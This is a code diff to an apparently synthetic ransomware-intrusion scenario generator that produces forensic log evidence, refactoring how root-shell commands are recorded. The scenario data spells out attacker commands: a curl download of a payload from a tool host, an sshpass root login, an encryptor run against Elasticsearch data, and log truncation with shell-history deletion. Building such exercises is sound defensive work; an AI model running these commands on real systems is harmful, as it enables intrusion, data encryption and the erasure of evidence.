@@ -83,7 +83,6 @@ PSEXEC_HASHES = fake_hashes("PsExec64.exe")
 ENCRYPTOR = "C:\\Windows\\Temp\\svchosts.exe"
 ENCRYPTOR_ARGS = "-p C:\\,D:\\ -n README_TO_DECRYPT.txt"
 TASK = "\\Microsoft\\Windows\\EdgeUpdateCore"
-ROOT_SHELL = {"auid": 1001, "uid": 0, "cwd": "/root", "ppid": 2301}  # esadmin's sudo bash on LNX-ES01
 # folders the encryptor walks on each server
 ENCRYPTED_FOLDERS = {
     DB01: ("D:\\MSSQL\\DATA", "D:\\MSSQL\\Backup", "C:\\Users\\Public\\Documents", "D:\\Reports"),
@@ -104,6 +103,11 @@ SEC_SYSTEM = {"task": 12544, "keywords": 0x8020000000000000}
 def at(day: int, hms: str, *, s: float = 0, ms: int = 0, us: int = 0, micro: int = 0) -> datetime:
     """A November 2022 IST time, plus an offset."""
     return ist(day, hms, micro) + timedelta(seconds=s, milliseconds=ms, microseconds=us)
+
+
+def as_root(when: datetime, argv: tuple[str, ...], *, exe: str, creates: str | None = None) -> AuditExec:
+    """A command of the attacker's root shell on LNX-ES01 (esadmin's ``sudo /bin/bash``, pid 2301)."""
+    return AuditExec(when, argv, auid=1001, uid=0, exe=exe, cwd="/root", ppid=2301, creates=creates)
 
 
 def ev(**what: object) -> dict[str, object]:
@@ -387,9 +391,9 @@ STEP_10 = Step(
 STEP_11 = Step(
     11, "Linux encryptor fetched with curl", ("T1105",),
     actions=(
-        AuditExec(at(23, "02:14:22", micro=118000), ("curl", "-so", "/tmp/.x", f"http://{TOOL_IP}/lx"),
-                  exe="/usr/bin/curl", **ROOT_SHELL),
-        AuditExec(at(23, "02:14:28", micro=118000), ("chmod", "+x", "/tmp/.x"), exe="/usr/bin/chmod", **ROOT_SHELL),
+        as_root(at(23, "02:14:22", micro=118000), ("curl", "-so", "/tmp/.x", f"http://{TOOL_IP}/lx"),
+                  exe="/usr/bin/curl"),
+        as_root(at(23, "02:14:28", micro=118000), ("chmod", "+x", "/tmp/.x"), exe="/usr/bin/chmod"),
     ),
     evidence=(
         ev(source="audit.log", host=ES01, type="EXECVE", contains=f"http://{TOOL_IP}/lx",
@@ -402,8 +406,7 @@ STEP_12 = Step(
     actions=(
         SshBruteForce(BKP01, IP[ES01], "root", at(23, "02:20:03"), attempts=60, every=6, first_pid=3100,
                       first_port=40112),
-        AuditExec(at(23, "02:20:01"), ("sshpass", "-f", "/tmp/.p", "ssh", "root@10.10.7.40"), exe="/usr/bin/sshpass",
-                  **ROOT_SHELL),
+        as_root(at(23, "02:20:01"), ("sshpass", "-f", "/tmp/.p", "ssh", "root@10.10.7.40"), exe="/usr/bin/sshpass"),
     ),
     evidence=(
         ev(source="auth.log", host=BKP01, contains=f"Failed password for root from {IP[ES01]}", min_count=60,
@@ -568,13 +571,13 @@ _ES = "elasticsearch.service"
 STEP_19 = Step(
     19, "Elasticsearch stopped and its indices encrypted", ("T1489", "T1486"),
     actions=(
-        AuditExec(at(23, "06:12:04"), ("systemctl", "stop", "elasticsearch"), exe="/usr/bin/systemctl", **ROOT_SHELL),
+        as_root(at(23, "06:12:04"), ("systemctl", "stop", "elasticsearch"), exe="/usr/bin/systemctl"),
         Journal(ES01, at(23, "06:12:04", ms=40), "systemd", "Stopping Elasticsearch...", unit=_ES),
         Journal(ES01, at(23, "06:12:07", ms=515), "systemd", "elasticsearch.service: Deactivated successfully.",
                 unit=_ES),
         Journal(ES01, at(23, "06:12:07", ms=520), "systemd", "Stopped Elasticsearch.", unit=_ES),
-        AuditExec(at(23, "06:12:24"), ("/tmp/.x", "-p", "/var/lib/elasticsearch"), exe="/tmp/.x",
-                  creates="/var/lib/elasticsearch/README_TO_DECRYPT.txt", **ROOT_SHELL),
+        as_root(at(23, "06:12:24"), ("/tmp/.x", "-p", "/var/lib/elasticsearch"), exe="/tmp/.x",
+                  creates="/var/lib/elasticsearch/README_TO_DECRYPT.txt"),
     ),
     evidence=(
         ev(source="journal", host=ES01, field="MESSAGE", equals="Stopped Elasticsearch."),
@@ -594,10 +597,9 @@ STEP_20 = Step(
             else ClearEventLogs(host, when, SYSTEM, sys_proc(host), (f"{host}$", NETBIOS), "S-1-5-18")
             for host, when in LOGS_CLEARED.items()
         ),
-        AuditExec(at(23, "06:40:51"), ("bash", "-c", "truncate -s 0 /var/log/auth.log; history -c; rm -f /root/.bash_history"),
-                  exe="/usr/bin/bash", **ROOT_SHELL),
-        AuditExec(at(23, "06:40:51", ms=3), ("truncate", "-s", "0", "/var/log/auth.log"), exe="/usr/bin/truncate",
-                  **ROOT_SHELL),
+        as_root(at(23, "06:40:51"), ("bash", "-c", "truncate -s 0 /var/log/auth.log; history -c; rm -f /root/.bash_history"),
+                  exe="/usr/bin/bash"),
+        as_root(at(23, "06:40:51", ms=3), ("truncate", "-s", "0", "/var/log/auth.log"), exe="/usr/bin/truncate"),
         LogTruncated(ES01, "auth", at(23, "06:40:51", ms=4)),
     ),
     evidence=(
